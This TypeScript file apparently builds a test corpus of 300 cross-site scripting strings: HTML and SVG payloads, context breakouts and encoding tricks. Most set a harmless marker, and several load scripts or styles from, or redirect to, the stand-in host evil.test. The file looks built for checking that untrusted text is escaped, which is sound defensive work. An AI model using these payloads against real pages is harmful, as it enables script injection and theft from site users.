/** What would run, each in its own way, if a page took it for markup. */
const payloads = [
  "<script>window.ran=1</script>",
  "<img src=x onerror=window.ran=1>",
  "<svg onload=window.ran=1>",
  "<svg><script>window.ran=1</script></svg>",
  "<iframe src=javascript:window.ran=1></iframe>",
  "<a href=javascript:window.ran=1>x</a>",
  "<details open ontoggle=window.ran=1>",
  "<style>@import '//evil.test/x.css';</style>",
  "<meta http-equiv=refresh content=0;url=//evil.test>",
  "<form action=//evil.test><button>x</button></form>",
  "<base href=//evil.test>",
  "<input autofocus onfocus=window.ran=1>",
];

/** Places that a text may have to break out of first. */
const contexts = [
  (payload: string) => payload,
  (payload: string) => `">${payload}`,
  (payload: string) => `'>${payload}`,
  (payload: string) => `</title>${payload}`,
  (payload: string) => `</textarea>${payload}`,
  (payload: string) => `</blockquote></main>${payload}`,
  (payload: string) => `-->${payload}<!--`,
  (payload: string) => `{{ 7*7 }}{% raw %}${payload}`,
  (payload: string) => payload.replace(/(?<=<)\w/, (letter) => letter.toUpperCase()).replace(" ", "\t/"),
  (payload: string) => `\u202e${payload}\u0000`.replace("\u0000", "\ufffd"),
];

/** 120 strings that run somewhere. */
export const hostileStrings: readonly string[] = contexts.flatMap((wrap) => payloads.map(wrap));

/** Rarer ways to run: old elements, odd spellings, addresses, entities and what other languages take for code. */
const rarer = [
  "<body onload=window.ran=1>",
  "<video><source onerror=window.ran=1></video>",
  "<audio src=x onerror=window.ran=1>",
  "<marquee onstart=window.ran=1>x</marquee>",
  "<object data=javascript:window.ran=1></object>",
  "<embed src=javascript:window.ran=1>",
  "<math><mtext><script>window.ran=1</script></mtext></math>",
  "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
  "<template><script>window.ran=1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
  "<select autofocus onfocus=window.ran=1><option>x</select>",
  "<textarea autofocus onfocus=window.ran=1></textarea>",
  "<keygen autofocus onfocus=window.ran=1>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<script src=//evil.test/x.js></script>",
  "&lt;script&gt;window.ran=1&lt;/script&gt;<script>window.ran=1</script>",
  "<img/src='x'/onerror=window.ran=1>",
  "<a href='java&#115;cript:window.ran=1'>x</a>",
] as const;

/** 300 strings: those, and the rarer ones in every place. */
export const manyHostileStrings: readonly string[] = [
  ...hostileStrings,
  ...contexts.flatMap((wrap) => rarer.map(wrap)),
];

/** All 300 in as few texts as have at most so many characters each, one after the other. */
export function hostileTexts(characters: number, between = "\n"): string[] {
  const texts: string[] = [];
  for (const one of manyHostileStrings) {
    const longer = `${texts.at(-1) ?? ""}${between}${one}`;
    if (texts.length > 0 && longer.length <= characters) texts[texts.length - 1] = longer;
    else texts.push(one.slice(0, characters));
  }
  return texts;
}
